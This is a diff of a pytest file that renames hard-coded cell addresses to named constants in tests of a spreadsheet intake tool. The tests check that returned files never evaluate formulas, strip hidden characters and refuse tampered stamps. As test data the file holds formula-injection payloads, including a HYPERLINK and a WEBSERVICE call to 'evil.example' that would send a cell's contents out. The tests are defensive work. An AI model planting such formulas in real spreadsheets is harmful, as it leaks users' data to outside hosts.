@@ -16,11 +16,27 @@ import pytest
 
 from conformance.check import assert_conforms
 from memory_excel import loaded
-from sent_files import ANNA, SENT, ZOE, collect, log, order, rezipped, said, send, typed
+from sent_files import (
+    ANNA,
+    DETAILS,
+    NUMBER,
+    RATE,
+    SENT,
+    SOLD,
+    ZOE,
+    collect,
+    log,
+    order,
+    rezipped,
+    said,
+    send,
+    typed,
+)
 from xlgoals.hosts.closed import ClosedFile
 from xlgoals.hosts.sandbox import reading
 from xlgoals.hosts.sandbox.reading import Reader, read_rep_files
 from xlgoals.tables.returned_file import Answers, Unread
+from xlgoals.views.rep_file import STAMP
 
 SHEET = "xl/worksheets/sheet1.xml"
 LINK = '=HYPERLINK("http://evil.example","Click")'
@@ -77,9 +93,9 @@ def test_a_text_from_a_rep_never_becomes_a_formula(
     before = formulas(plan)
 
     def as_text(book: Any) -> None:
-        book["Your goals"]["I10"].data_type = "s"
+        book["Your goals"][DETAILS].data_type = "s"
 
-    found = collect(plan, typed(anna, {"H10": 800_000, "I10": text}, also=as_text))
+    found = collect(plan, typed(anna, {NUMBER: 800_000, DETAILS: text}, also=as_text))
     assert found.reports[0].outcome == "taken"
     assert said(plan)[0][3] == text.strip()
     assert formulas(plan) == before
@@ -97,24 +113,24 @@ def test_a_text_from_a_rep_never_becomes_a_formula(
     "formula", [LINK, DDE, '=WEBSERVICE("http://evil.example/"&A1)', "='C:\\[x.xlsx]S'!A1"]
 )
 def test_a_formula_is_never_worked_out(plan: Path, anna: Path, formula: str) -> None:
-    found = collect(plan, typed(anna, {"H10": formula, "I10": formula, "H11": 21}))
+    found = collect(plan, typed(anna, {NUMBER: formula, DETAILS: formula, SOLD: 21}))
     assert [e[:3] for e in said(plan)] == [("Sales", "counter", 21.0)]
     assert found.reports[0].outcome == "taken"
     assert not any(word in plan.read_bytes() for word in (b"evil", b"calc'!"))
 
 
 def test_a_formula_counts_with_the_value_that_was_saved(plan: Path, anna: Path) -> None:
-    typed(anna, {"H10": 123_456})
+    typed(anna, {NUMBER: 123_456})
     cell = b"<f>400000*1.05</f><v>420000</v>"
     rezipped(anna, {SHEET: lambda part: part.replace(b"<v>123456</v>", cell)})
-    assert openpyxl.load_workbook(anna)["Your goals"]["H10"].value == "=400000*1.05"
+    assert openpyxl.load_workbook(anna)["Your goals"][NUMBER].value == "=400000*1.05"
     collect(plan, anna)
     assert said(plan)[0][2] == 420_000.0
 
 
 def test_control_characters_and_marks_of_direction_are_taken_out(plan: Path, anna: Path) -> None:
     text = "Two\u202e left\u200f\u2066 \u0007and\u0001 no\ttrace\nof them\u2028."
-    typed(anna, {"H10": 800_000, "I10": "PLACE"})
+    typed(anna, {NUMBER: 800_000, DETAILS: "PLACE"})
     safe = text.replace("\u0007", "_x0007_").replace("\u0001", "_x0001_")
     parts = (SHEET, "xl/sharedStrings.xml")
     rezipped(anna, dict.fromkeys(parts, lambda part: part.replace(b"PLACE", safe.encode())))
@@ -127,7 +143,7 @@ def test_control_characters_and_marks_of_direction_are_taken_out(plan: Path, ann
 def test_a_text_of_32767_characters_is_kept_as_far_as_the_log_goes_and_told(
     plan: Path, anna: Path
 ) -> None:
-    found = collect(plan, typed(anna, {"H10": 800_000, "I10": "x" * 32_767}))
+    found = collect(plan, typed(anna, {NUMBER: 800_000, DETAILS: "x" * 32_767}))
     assert found.reports[0].notes == (
         "Revenue: the first 8,000 of 32,767 characters of the details were kept; the rest is in the file.",
     )
@@ -137,7 +153,7 @@ def test_a_text_of_32767_characters_is_kept_as_far_as_the_log_goes_and_told(
 
 @pytest.mark.parametrize("value", [float("1e300"), -5, True, "1e999", "NaN", "inf", "٣٤", "0x10"])
 def test_odd_numbers_end_in_a_sentence(plan: Path, anna: Path, value: Any) -> None:
-    found = collect(plan, typed(anna, {"H15": value}))
+    found = collect(plan, typed(anna, {RATE: value}))
     assert found.reports[0].outcome == "refused"
     assert found.reports[0].problems or found.reports[0].notes
     assert [one[1] for one in said(plan)] == ["not taken"]
@@ -147,7 +163,7 @@ def test_odd_numbers_end_in_a_sentence(plan: Path, anna: Path, value: Any) -> No
 
 
 def stamp_of(path: Path) -> str:
-    return str(openpyxl.load_workbook(path)["Your goals"]["A1"].value)
+    return str(openpyxl.load_workbook(path)["Your goals"][STAMP].value)
 
 
 @pytest.mark.parametrize(
@@ -168,7 +184,7 @@ def stamp_of(path: Path) -> str:
 def test_an_edited_stamp_is_not_taken(plan: Path, anna: Path, at: int, to: str, why: str) -> None:
     parts = stamp_of(anna).split(";")
     parts[at] = to
-    found = collect(plan, typed(anna, {"A1": ";".join(parts), "H10": 1, "I10": "Mine."}))
+    found = collect(plan, typed(anna, {STAMP: ";".join(parts), NUMBER: 1, DETAILS: "Mine."}))
     assert found.reports[0].outcome == "refused"
     assert why in found.reports[0].sentence
     assert not [e for e in log(plan) if e.action == "counter"]
@@ -180,18 +196,18 @@ def test_a_colleagues_stamp_on_ones_own_answers_is_not_taken(
     plan: Path, anna: Path, sent: Path
 ) -> None:
     theirs = stamp_of(sent / "files" / ZOE)
-    found = collect(plan, typed(anna, {"A1": theirs, "H10": 1}))
+    found = collect(plan, typed(anna, {STAMP: theirs, NUMBER: 1}))
     assert "was changed in it" in found.reports[0].sentence
     assert not [e for e in log(plan) if e.action == "counter"]
 
 
 def test_a_replayed_round_is_not_taken(plan: Path, anna: Path, sent: Path) -> None:
     old = stamp_of(anna)
-    collect(plan, typed(anna, {"H10": 800_000}))
+    collect(plan, typed(anna, {NUMBER: 800_000}))
     order(plan, "propose", "R01", "Revenue", 850_000.0, when=SENT.replace(day=6))
     send(plan, sent / "two", "R01")
     (fresh,) = (sent / "two").iterdir()
-    found = collect(plan, typed(fresh, {"A1": old, "H10": 1}, saved=SENT.replace(day=7)))
+    found = collect(plan, typed(fresh, {STAMP: old, NUMBER: 1}, saved=SENT.replace(day=7)))
     assert found.reports[0].outcome == "refused"
     assert [e.value for e in log(plan) if e.action == "counter"] == [800_000.0]
 
@@ -201,12 +217,12 @@ def test_a_time_of_saving_in_the_future_does_not_shut_out_later_answers(
 ) -> None:
     liar = typed(
         Path(shutil.copy(anna, sent / "a, saved 2099-01-01 00:00:00.xlsx")),
-        {"H10": 1},
+        {NUMBER: 1},
         saved=SENT.replace(year=2099),
     )
     collect(plan, liar, when=SENT.replace(day=4))
     collect(
-        plan, typed(anna, {"H10": 800_000}, saved=SENT.replace(day=5)), when=SENT.replace(day=6)
+        plan, typed(anna, {NUMBER: 800_000}, saved=SENT.replace(day=5)), when=SENT.replace(day=6)
     )
     assert said(plan)[-1][1:3] == ("counter", 800_000.0)
 
@@ -328,7 +344,7 @@ def test_a_spoilt_file_ends_in_a_sentence(
 def test_a_cell_in_the_last_corner_takes_no_memory_and_the_answer_is_read(
     plan: Path, anna: Path
 ) -> None:
-    typed(anna, {"H10": 800_000, "XFD1048576": "far"})
+    typed(anna, {NUMBER: 800_000, "XFD1048576": "far"})
     found = collect(plan, anna)
     assert found.reports[0].outcome == "taken"
     assert said(plan)[0][2] == 800_000.0
@@ -380,7 +396,7 @@ def test_no_module_is_taken_from_the_folder_of_the_files(sent: Path, anna: Path)
 
 
 def test_other_parts_of_a_file_are_never_looked_at(plan: Path, anna: Path) -> None:
-    typed(anna, {"H10": 800_000})
+    typed(anna, {NUMBER: 800_000})
     rezipped(
         anna,
         {},
